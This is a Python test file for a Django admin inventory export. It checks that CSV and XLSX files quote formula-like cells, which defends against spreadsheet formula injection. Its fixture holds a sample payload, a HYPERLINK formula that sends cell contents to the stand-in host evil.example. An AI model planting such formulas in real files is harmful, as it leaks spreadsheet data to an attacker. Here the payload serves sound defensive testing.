"""Exports never carry a live formula: product names and codes that start with = + - @ are
quoted in CSV and XLSX files, numbers stay numbers."""

import csv
import io
import re

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.admin.tenancy_world import PASSWORD, build

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def export(client, file_format):
    page = client.get("/admin/inventory/stocklevel/export/").content.decode()
    names = re.findall(r'name="(stocklevelresource_[a-z_]+)"', page)
    return client.post(
        "/admin/inventory/stocklevel/export/",
        {"format": file_format, "resource": "0", **dict.fromkeys(names, "on"), "export_items": []},
    )


@pytest.fixture
def owner(db):
    world = build()
    _retailer, _brand, _outlet, variant, _reservation = world.sides[0]
    variant.product.name = EVIL
    variant.product.save()
    variant.sku = "-SKU@1"
    variant.save()
    client = Client()
    assert client.login(username="a-owner", password=PASSWORD)
    return client


def test_csv_export_quotes_formula_cells(owner):
    text = export(owner, "0").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "@")) for cell in cells)
    assert "'" + EVIL in cells
    assert not any(cell.startswith("-S") for cell in cells)
    assert "10" in cells  # a plain number is not quoted


def test_xlsx_export_holds_no_formula(owner):
    workbook = load_workbook(io.BytesIO(export(owner, "1").content))
    values = [cell.value for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert all(not (isinstance(v, str) and v.startswith(("=", "+", "-", "@"))) for v in values)
